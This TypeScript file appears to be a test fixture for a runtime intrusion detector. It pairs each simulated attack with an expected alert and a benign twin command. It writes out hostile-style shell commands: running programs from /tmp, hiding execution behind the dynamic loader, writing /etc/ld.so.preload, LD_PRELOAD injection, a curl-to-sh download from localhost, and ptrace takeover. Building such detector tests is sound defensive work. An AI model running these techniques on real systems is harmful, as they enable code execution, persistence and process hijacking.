import { type Attack, shell } from './attack.ts';

const writableTmp = ['--tmpfs', '/tmp:exec'];
const loader =
  process.arch === 'arm64' ? '/lib/ld-linux-aarch64.so.1' : '/lib64/ld-linux-x86-64.so.2';

export const drift: readonly Attack[] = [
  {
    what: 'a program in a file system of memory',
    attack: shell('cp /bin/true /tmp/x; /tmp/x; true', ...writableTmp),
    expected: ['Program started from a temporary file system'],
    by: 'x',
    twin: shell('cp /bin/true /tmp/x; /bin/true; true', ...writableTmp),
  },
  {
    what: 'a script among temporary files',
    attack: shell('echo true > /tmp/x.sh; sh /tmp/x.sh; true', ...writableTmp),
    expected: ['Script run from a directory for temporary files'],
    by: 'sh /tmp/x.sh',
    twin: shell('echo true > /srv/x.sh; sh /srv/x.sh; true'),
  },
  {
    what: 'a program behind the loader',
    attack: shell(`cp /bin/true /tmp/x; ${loader} /tmp/x; true`, ...writableTmp),
    expected: ['Program hidden behind the loader'],
    by: '/tmp/x',
    twin: shell(`${loader} --list /bin/true > /dev/null; true`),
  },
  {
    what: 'a library for every program',
    attack: shell(': > /etc/ld.so.preload; true'),
    expected: ['Library forced into every program'],
    by: 'sh -c',
    twin: shell('cat /etc/ld.so.preload; true'),
  },
  {
    what: 'a library out of a temporary directory',
    attack: shell('LD_PRELOAD=/tmp/x.so /bin/true; true'),
    expected: ['Library forced into a program from a temporary directory'],
    by: 'true',
    twin: shell('LD_PRELOAD=/usr/lib/x.so /bin/true; true'),
  },
  {
    what: 'a download that is run at once',
    attack: shell("sh -c 'curl -s http://127.0.0.1:1/i.sh | sh; true'; true"),
    expected: ['Download run by a shell at once'],
    by: 'sh -c curl',
    twin: shell("sh -c 'curl -s http://127.0.0.1:1/health | grep ok; true'; true"),
  },
  {
    what: 'another process taken over',
    attack: { options: ['--cap-add', 'SYS_PTRACE'], command: ['/attack/attacker', 'ptrace'] },
    expected: ['Code put into another process'],
    by: 'attacker ptrace',
    twin: { options: ['--cap-add', 'SYS_PTRACE'], command: ['/attack/attacker'] },
  },
];
